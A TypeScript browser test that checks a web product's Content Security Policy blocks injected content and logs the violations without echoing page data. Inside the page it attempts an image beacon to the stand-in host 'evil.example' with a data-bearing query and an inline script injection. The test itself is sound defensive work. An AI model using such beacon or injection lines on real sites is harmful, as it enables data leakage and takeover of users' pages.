import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launch, newVisitor } from '../support/browser.ts';
import type { LogLine } from '../support/logLines.ts';
import { type Product, startProduct } from '../support/product.ts';
import { startTlsFront, type TlsFront } from '../support/tlsFront.ts';
import { letOut } from '../support/watchedRun.ts';

let product: Product;
let front: TlsFront;
let browser: Browser;
beforeAll(async () => {
  product = await startProduct();
  // Browsers send such reports over https alone, and most often a minute later.
  front = await startTlsFront(product.url);
  const trusted = `--ignore-certificate-errors-spki-list=${front.keyHash}`;
  browser = await launch([trusted, '--short-reporting-delay']);
});
afterAll(async () => {
  await browser.close();
  await front.close();
  await product.stop();
});

/** What the log tells of pages that have met their policy. */
const violations = () =>
  product
    .output()
    .split('\n')
    .filter((line) => line.includes('policy_violation'))
    .map((line) => JSON.parse(line) as LogLine)
    .map(({ directive, blocked }) => `${String(directive)} ${String(blocked)}`)
    .toSorted();

it('a page tells the server what its policy has kept out, and the log says it without a word of the page', async () => {
  const { page } = await newVisitor(browser);
  await page.goto(`${front.url}/leaderboard/az`);
  await page.getByRole('heading', { level: 1, name: 'Arizona’s top golf courses' }).waitFor();
  const refused = await page.evaluate(async () => {
    const picture = new Image();
    const isBlocked = new Promise((resolve) => (picture.onerror = () => resolve('blocked')));
    picture.src = 'https://evil.example/pixel.png?of=somebody';
    const script = document.createElement('script');
    try {
      script.textContent = 'window.isTakenOver = true';
    } catch {
      script.append('window.isTakenOver = true');
    }
    document.head.append(script);
    return [await isBlocked, 'isTakenOver' in window];
  });
  expect(refused).toEqual(['blocked', false]);
  await expect
    .poll(() => [...new Set(violations())], { timeout: 30_000 })
    .toEqual(['img-src https://evil.example', 'require-trusted-types-for trusted-types-sink']);
  expect(product.output()).not.toMatch(/somebody|isTakenOver/);
  // Met on purpose.
  expect((await letOut()).every((told) => told.startsWith('policy: '))).toBe(true);
});
